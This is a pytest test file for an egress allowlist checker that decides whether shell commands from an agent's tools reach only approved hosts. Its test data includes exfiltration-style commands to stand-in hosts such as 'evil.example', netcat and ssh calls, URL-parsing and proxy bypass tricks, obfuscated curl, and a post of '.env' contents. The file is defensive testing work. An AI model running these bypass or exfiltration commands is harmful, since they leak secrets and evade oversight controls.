"""core/redact/restore/allowed_hosts.py: commands that send to allowed hosts only."""

from __future__ import annotations

import json

import pytest

from sluicegate.core.redact.restore.allowed_hosts import AllowedHosts
from sluicegate.core.redact.restore.egress import has_egress
from sluicegate.core.redact.restore.tool_policy import ToolPolicy

HOSTS = AllowedHosts(["api.example.com", "*.corp.example"])
AT = "https://api.example.com"


@pytest.mark.parametrize(
    ("host", "allowed"),
    [
        *[
            (h, True)
            for h in ("api.example.com", "API.example.com", "api.example.com.", "a.corp.example", "b.a.corp.example")
        ],
        *[(h, False) for h in ("example.com", "corp.example", "xcorp.example", "api.example.com.evil", "evil", "")],
    ],
)
def test_hosts(host: str, allowed: bool) -> None:
    """A name is itself, in any case; `*.` matches subdomains, not the name itself."""
    assert (host in HOSTS) is allowed


@pytest.mark.parametrize(
    "command",
    [
        f"curl {AT}/v1",
        f"curl -sS -X POST {AT}:8443/v1/x?a=1 -H 'x-api-key: <KEY_1>' -d '{{\"k\": \"<KEY_1>\"}}' -o out.json",
        f"curl -sSfo out {AT}/a {AT}/b",
        f'curl --silent --data-binary @file.json --header "a: b" "{AT}/x"',
        f"cat body.json | curl -d @- {AT} | jq .",
        f"curl \\\n  -H 'a: <KEY_1>' \\\n  {AT}/x\nls",
        "curl -O --header 'a: <KEY_1>' http://x.corp.example/y && ls",
        f'cd x; curl -d "$(cat .env)" {AT}/',
        f"export BASE={AT}/v1",
        AT,
    ],
)
def test_allowed(command: str) -> None:
    """curl with its usual options, each address in full; and addresses without a program."""
    assert has_egress(json.dumps({"command": command}))
    assert not has_egress(json.dumps({"command": command}), HOSTS)


@pytest.mark.parametrize(
    "command",
    [
        *("curl https://evil.example", "curl evil.example", "curl", "curl -d x", "curl $URL", "curl https://$HOST/"),
        *(f"curl {AT} evil", f"curl {AT} https://evil", f"curl {AT}@evil.example/", f"curl {AT}:80@evil.example/"),
        *(f"curl {AT}\\@evil.example/", f"curl {AT}?@evil", f"curl {AT}#@evil", f"curl {AT}.evil/", f"curl {AT}$X"),
        *(f"curl https://{{api.example.com,evil}}/ {AT}", f"curl -L {AT}", f"curl --location {AT}", f"curl -x evil {AT}"),
        *(f"curl -sx evil {AT}", f"curl --proxy evil {AT}", f"curl --resolve a:1:b {AT}", f"curl -K f {AT}"),
        *(f"https_proxy=evil:80 curl {AT}", f"export https_proxy=evil; curl {AT}", f"sudo curl {AT}", f"curl - {AT}"),
        *(f"curl {AT} ; nc evil 1", f"curl {AT}\nssh evil", f'curl {AT} -d "$(curl evil)"', f"curl {AT} & wget evil"),
        *(f"bash -c 'curl {AT} evil'", f"echo {AT} | xargs curl evil", f"curl -d 'x {AT}", f"curl {AT} -H `nc evil 1`"),
        *(f"git push {AT}/x.git", f"python3 -c 'import requests.get; {AT}'", f"curl -H 'Origin: https://evil' {AT}"),
        *(f"WebFetch {AT},https://evil", f"{AT}.evil/", f"ftp://api.example.com {AT}", f"curl --data={AT} -O https://evil"),
        *(f"echo proxy=evil > ~/.curlrc; curl {AT}", f"alias curl='curl evil'; curl {AT}", f"cu'r'l evil {AT}"),
        *(f"curl -O evil.example {AT}", f"wget {AT}", f"c\\url evil {AT}", f"curl {AT} <KEY_1>"),
    ],
)
def test_not_allowed(command: str) -> None:
    """Another host, a host that is not written out, an option or a program that is not read: as if none were allowed."""
    assert has_egress(json.dumps({"command": command}), HOSTS)


def test_the_policy_has_them() -> None:
    """Inputs are checked against the configured hosts; by default none is allowed."""
    assert "a.example" in ToolPolicy({}, ["a.example"]).hosts
    assert not ToolPolicy().hosts
